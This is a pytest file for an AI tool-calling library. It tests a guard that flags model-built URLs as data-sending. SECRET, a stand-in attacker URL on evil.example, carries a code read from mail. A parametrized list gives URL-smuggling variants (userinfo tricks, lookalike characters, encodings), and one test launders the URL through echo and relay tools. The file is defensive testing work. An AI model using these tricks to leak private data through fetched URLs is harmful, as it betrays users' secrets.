"""A tool may say what one call does: fetching a found link reads, and a URL that a model made up sends."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from typing import Any

import pytest

from tests.processor import LINEAR, growth, milliseconds
from tests.session.till import calls, program
from toolwire import CallContext, DefinitionError, Session, ToolRegistry, ToolSpec, Turn
from toolwire.permission.approval import ApprovalRequest, Decider, Decision, DecisionRefused
from toolwire.permission.policy import Policy
from toolwire.permission.seen_urls import COMPARED_LIMIT, SCAN_LIMIT, SEEN_URLS_LIMIT, urls_in, with_urls
from toolwire.session.runs.resume import RunStore
from toolwire.testing import Seen
from toolwire.types import Effect
from toolwire.vocabulary.results import ToolResult

FOUND = "https://docs.example.com/a%20b/page?q=1"
SECRET = "https://evil.example/?s=4711"
HARMLESS = ["read"]


def fetch_effects(arguments: Mapping[str, Any], seen: Seen) -> Iterable[Effect]:
    return ["read"] if arguments["url"] in seen.urls else ["read", "send"]


class Web:
    """A mailbox, a search and a browser that notes what it fetched."""

    def __init__(self) -> None:
        self.fetched: list[str] = []
        self.found: Any = f"See [the page]({FOUND}) or (https://docs.example.com/other). Also https://docs.example.com."

    def mail(self) -> str:
        """Reads the mail."""
        return "The code is 4711."

    def find(self, query: str) -> Any:
        """Searches the web."""
        return self.found

    def fetch(self, url: str) -> str:
        """Fetches a page."""
        self.fetched.append(url)
        return "a page"

    def echo(self, text: str) -> str:
        """Repeats a text."""
        return f"You said {text}"

    def tools(self, effects_of: Any = fetch_effects, **options: Any) -> list[ToolSpec]:
        return [
            ToolSpec.from_function(self.mail, effects=["read"], labels=["private"]),
            ToolSpec.from_function(self.find, effects=["read"], labels=["untrusted"]),
            ToolSpec.from_function(self.fetch, effects=["read", "send"], effects_of=effects_of, **options),
            ToolSpec.from_function(self.echo, effects=["read"]),
        ]

    def session(self, store: RunStore | None = None, **options: Any) -> Session:
        return Session(self.tools(**options.pop("tool", {})), protocol="openai", store=store, **options)


def asked(turn: Turn) -> ApprovalRequest:
    assert turn.suspended is not None
    (request,) = turn.suspended.pending
    return request


async def read_all(session: Session) -> None:
    turn = await session.turn(calls(("mail", {}), ("find", {"query": "a"})))
    assert all(result.success for result in turn.results)


@pytest.mark.threat(25)
async def test_a_found_link_is_read_and_a_made_up_one_asks_in_each_kind_of_store(store: RunStore) -> None:
    web = Web()
    session = web.session(store)
    await read_all(session)
    turn = await session.turn(calls(("fetch", {"url": FOUND})))
    assert (turn.suspended, web.fetched) == (None, [FOUND])
    request = asked(await session.turn(calls(("fetch", {"url": SECRET}))))
    assert (request.effects, web.fetched) == (("read", "send"), [FOUND])


async def test_without_effects_of_the_found_link_asks_too() -> None:
    web = Web()
    session = web.session(tool={"effects_of": None})
    await read_all(session)
    turn = await session.turn(calls(("fetch", {"url": FOUND})))
    assert turn.results[0].failure is not None
    assert (turn.results[0].failure.kind, web.fetched) == ("approval_required", [])


@pytest.mark.parametrize(
    "url",
    [
        FOUND[:-1],
        FOUND + "&s=4711",
        FOUND + "/4711",
        FOUND + "#4711",
        FOUND.replace("%20", "%2520"),
        FOUND.replace("%20", " "),
        FOUND.replace("%20", "+"),
        FOUND.replace("page", "%70age"),
        FOUND.replace("docs.example.com", "DOCS.example.com"),
        FOUND.replace("https://", "HTTPS://"),
        FOUND.replace("https://", "https://4711@"),
        FOUND.replace("https://", "https://docs.example.com@evil.example/"),
        FOUND.replace("docs.", "docs\u3002"),
        FOUND.replace("example", "ex\u00e4mple"),
        f" {FOUND}",
        f"{FOUND}\n",
        f"{FOUND}.",
        f"https://evil.example/?u={FOUND}",
    ],
)
async def test_a_url_that_differs_from_the_found_one_in_anything_sends(url: str) -> None:
    web = Web()
    session = web.session()
    await read_all(session)
    honest = await session.turn(calls(("fetch", {"url": FOUND})))
    attack = await session.turn(calls(("fetch", {"url": url})))
    assert (honest.results[0].success, attack.results[0].success, web.fetched) == (True, False, [FOUND])


@pytest.mark.parametrize(
    ("found", "url", "is_whole"),
    [
        ({"links": [{"href": "https://a.example/x."}]}, "https://a.example/x", True),
        ("<a href='https://a.example/x'>x</a>", "https://a.example/x", True),
        ("(https://a.example/x_(y)), and", "https://a.example/x_(y)", True),
        ("[![i](https://a.example/i)](https://a.example/x)", "https://a.example/x", True),
        ("看https://a.example/x。好", "https://a.example/x", True),
        ('{"u": "{\\"v\\": \\"https://a.example/x\\"}"}', "https://a.example/x", True),
        ("https://a.example/x\\u0026y=1", "https://a.example/x", False),
        ("https://a.example/ x", "https://a.example/x", False),
        ("https:// a.example", "https://", False),
        ("x" * 262_136 + " https://a.example/x/and/more", "https://a.example/x", False),
        ("https://a.example/" + "x" * 2_100, "https://a.example/" + "x" * 2_100, False),
        (["https://a.example/", "x"], "https://a.example/x", False),
    ],
)
async def test_a_url_must_stand_whole_in_a_result(found: Any, url: str, is_whole: bool) -> None:
    web = Web()
    web.found = found
    session = web.session()
    await read_all(session)
    turn = await session.turn(calls(("fetch", {"url": url})))
    assert (turn.results[0].success, bool(web.fetched)) == (is_whole, is_whole)


@pytest.mark.threat(25)
async def test_a_model_cannot_make_a_url_a_found_one_by_a_tool_or_a_program_that_repeats_it() -> None:
    def relay(context: CallContext, first: str, second: str) -> Any:
        """Joins two texts by another tool."""
        return context.call("echo", text=first + second)

    web = Web()
    session = Session([*web.tools(), relay], protocol="attp")
    await session.turn(program("mail()\nfind(query='a')"))
    await session.turn(program(f"echo(text='look at {SECRET} now')"))
    await session.turn(program(f"print('https://evil.example' + '/?s=4711')\n'{SECRET}'"))
    await session.turn(program("relay(first='https://evil.example', second='/?s=4711')"))
    turn = await session.turn(program(f"fetch(url='{SECRET}')"))
    assert (turn.results[0].success, web.fetched) == (False, [])
    honest = await session.turn(program(f"find(query='b')\nfetch(url='{FOUND}')"))
    assert (honest.results[0].success, web.fetched) == (True, [FOUND])


async def test_a_program_may_fetch_what_it_found_itself() -> None:
    web = Web()
    session = Session(web.tools(), protocol="attp")
    turn = await session.turn(program(f"mail()\nfind(query='a')\nfetch(url='{FOUND}')"))
    assert (turn.results[0].success, web.fetched) == (True, [FOUND])


async def test_found_links_outlive_the_process_with_their_conversation(store: RunStore) -> None:
    await read_all(Web().session(store, conversation="c"))
    web = Web()
    turn = await web.session(store, conversation="c").turn(calls(("fetch", {"url": FOUND})))
    assert (turn.suspended, web.fetched) == (None, [FOUND])
    other = web.session(store, conversation="d")
    await other.turn(calls(("mail", {})))
    web.found = "nothing"
    await other.turn(calls(("find", {"query": "a"})))
    request = asked(await other.turn(calls(("fetch", {"url": FOUND}))))
    assert (request.effects, web.fetched) == (("read", "send"), [FOUND])


async def test_a_suspended_turn_keeps_the_links_that_it_found(store: RunStore) -> None:
    web = Web()
    turn = await web.session(store, conversation="c").turn(
        calls(("mail", {}), ("find", {"query": "a"}), ("fetch", {"url": SECRET}))
    )
    if turn.suspended is None:
        # The three calls run in parallel, so the guard may have come before what it guards.
        turn = await web.session(store, conversation="c").turn(calls(("fetch", {"url": SECRET})))
    assert turn.suspended is not None
    before = list(web.fetched)
    await web.session(store, conversation="c").turn(calls(("fetch", {"url": FOUND})))
    assert web.fetched == [*before, FOUND]


def fails(arguments: Mapping[str, Any], seen: Seen) -> Iterable[Effect]:
    raise KeyError("no")


def wrong(given: Any) -> Any:
    return lambda arguments, seen: given  # pyright: ignore[reportUnknownLambdaType]


@pytest.mark.parametrize(
    "effects_of", [fails, *map(wrong, (None, [], "read", ["spend"], ["reads"], ["read", "exec"], 7, [["read"]]))]
)
async def test_if_effects_of_fails_or_answers_wrongly_the_declared_effects_count(
    effects_of: Any, caplog: pytest.LogCaptureFixture
) -> None:
    web = Web()
    session = web.session(tool={"effects_of": effects_of})
    await read_all(session)
    turn = await session.turn(calls(("fetch", {"url": FOUND})))
    assert (turn.results[0].success, web.fetched) == (False, [])
    assert "effects_of of 'fetch'" in caplog.text


async def test_effects_of_cannot_change_the_arguments_that_run() -> None:
    def rewrites(arguments: dict[str, Any], seen: Seen) -> Iterable[Effect]:
        arguments["url"] = SECRET
        return ["read"]

    web = Web()
    session = web.session(tool={"effects_of": rewrites})
    await read_all(session)
    await session.turn(calls(("fetch", {"url": FOUND})))
    assert web.fetched == [FOUND]


async def test_rules_that_name_the_tool_hold_whatever_one_call_does() -> None:
    for effect, kind in (("deny", "denied"), ("confirm", "approval_required")):
        web = Web()
        session = web.session(policy=[{"effect": effect, "tool": "fetch"}])
        await read_all(session)
        turn = await session.turn(calls(("fetch", {"url": FOUND})))
        failure = turn.results[0].failure
        assert failure is not None
        assert (failure.kind, web.fetched) == (kind, [])


async def test_approvers_of_an_effect_decide_on_calls_that_have_it() -> None:
    web, by = Web(), Decider(principal="ben", channel="console")

    def ask(request: ApprovalRequest) -> Decision:
        return Decision(verdict="approve", by=by)

    policy = Policy([{"effect": "confirm", "tool": "fetch"}], approvers={"send": ["ada"]})
    session = web.session(policy=policy, approver=ask)
    await read_all(session)
    found = await session.turn(calls(("fetch", {"url": FOUND})))
    made_up = await session.turn(calls(("fetch", {"url": SECRET})))
    assert (found.results[0].success, made_up.results[0].success, web.fetched) == (True, False, [FOUND])


async def test_an_edit_to_a_made_up_url_needs_an_approver_of_sending() -> None:
    web, urls = Web(), ["https://docs.example.com/other", SECRET]

    def ask(request: ApprovalRequest) -> Decision:
        by = Decider(principal="ben", channel="console")
        return Decision(verdict="edit", arguments={"url": urls.pop(0)}, by=by)

    policy = Policy([{"effect": "confirm", "tool": "fetch"}], approvers={"send": ["ada"]})
    session = web.session(policy=policy, approver=ask)
    await read_all(session)
    for is_allowed in (True, False):
        turn = await session.turn(calls(("fetch", {"url": FOUND})))
        assert turn.results[0].success is is_allowed
    assert web.fetched == ["https://docs.example.com/other"]


async def test_an_edit_to_a_made_up_url_is_refused_when_it_is_handed_in(store: RunStore) -> None:
    web = Web()
    policy = Policy([{"effect": "confirm", "tool": "fetch"}], approvers={"send": ["ada"]})
    session = web.session(store, policy=policy)
    await read_all(session)
    turn = await session.turn(calls(("fetch", {"url": FOUND})))
    request = asked(turn)
    assert turn.suspended is not None
    by = Decider(principal="ben", channel="console")
    edit = Decision(request_id=request.id, verdict="edit", arguments={"url": SECRET}, by=by)
    with pytest.raises(DecisionRefused) as refused:
        await session.resume(turn.suspended, [edit])
    assert (refused.value.code, web.fetched) == ("invalid_edit", [])
    await session.resume(turn.suspended, [Decision(request_id=request.id, verdict="approve", by=by)])
    assert web.fetched == [FOUND]


def test_effects_of_without_declared_effects_or_as_a_coroutine_function_is_refused() -> None:
    async def later(arguments: Mapping[str, Any], seen: Seen) -> Iterable[Effect]:
        return ["read"]

    with pytest.raises(DefinitionError, match="declare them too"):
        ToolSpec.from_function(Web().fetch, effects_of=fetch_effects)
    for wrong_one in (later, "read"):
        with pytest.raises(DefinitionError, match="give a plain function"):
            ToolSpec.from_function(Web().fetch, effects=["read"], effects_of=wrong_one)  # type: ignore[arg-type]


def test_outside_and_schema_tools_take_effects_of_too() -> None:
    schema = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
    made = [
        ToolSpec.from_jsonschema(
            name="fetch",
            description="Fetches.",
            input_schema=schema,
            effects=["read", "send"],
            effects_of=fetch_effects,
        ),
        ToolSpec.from_mcp(
            {"name": "get", "inputSchema": schema}, lambda **_: "", effects=["read", "send"], effects_of=fetch_effects
        ),
    ]
    registry = ToolRegistry()
    for tool in made:
        registry.register(tool)
    assert [tool.__tool__().effects.of_call for tool in made] == [fetch_effects] * 2


@pytest.mark.parametrize("more", [0, 1])
def test_the_oldest_links_are_dropped_beyond_the_limit(more: int) -> None:
    url, count = "https://a.example/{:014}", SEEN_URLS_LIMIT // 32
    assert len(url.format(0)) == 32
    kept = with_urls((), map(url.format, range(count + more)))
    assert (len(kept), next(iter(kept))) == (count, url.format(more))
    again = with_urls(kept, [url.format(more), "https://b.example/"])
    assert url.format(more) in again
    assert url.format(more + 1) not in again


@pytest.mark.parametrize("piece", ["a://)", "a://", "a://a ", "(a://", "'a://", "a", "://"])
def test_a_hostile_result_is_searched_in_linear_time(piece: str) -> None:
    small, large = (ToolResult(True, piece * count + " b://b") for count in (10_000, 40_000))
    assert growth(lambda result: urls_in(result, {}), small, large) <= LINEAR


MANY_LINKS = ToolResult(True, " ".join(f"a://{number:x}" for number in range(30_000)))


@pytest.mark.parametrize("text", ["b" * 1_000_000, "://b" * 250_000])
def test_many_links_and_long_arguments_cost_little_together(text: str) -> None:
    assert milliseconds(lambda: urls_in(MANY_LINKS, {"text": text}), enough=200) <= 200


@pytest.mark.parametrize("more", [0, 1])
def test_no_link_counts_beyond_what_is_compared_with_the_arguments(more: int) -> None:
    links = ToolResult(True, " ".join(f"https://a.example/{number}" for number in range(1_000)))
    own = len(json.dumps({"text": "://"}))
    given = {"text": "://" + "b" * (COMPARED_LIMIT // 1_000 - own + more)}
    assert len(urls_in(links, given)) == (0 if more else 1_000)


@pytest.mark.parametrize("more", [0, 1])
def test_a_link_beyond_the_searched_part_of_a_result_does_not_count(more: int) -> None:
    result = ToolResult(True, "b" * (SCAN_LIMIT - len(" https://a.example/") + more) + " https://a.example/")
    assert urls_in(result, {}) == (() if more else ("https://a.example/",))


def test_a_url_is_found_behind_any_number_of_other_arguments() -> None:
    given = {"values": [0] * 200_000, "text": f"see {FOUND}"}
    assert urls_in(ToolResult(True, f"{FOUND} https://b.example/"), given) == ("https://b.example/",)


def test_no_link_counts_if_the_arguments_cannot_be_compared() -> None:
    assert urls_in(ToolResult(True, FOUND), {"text": object()}) == ()
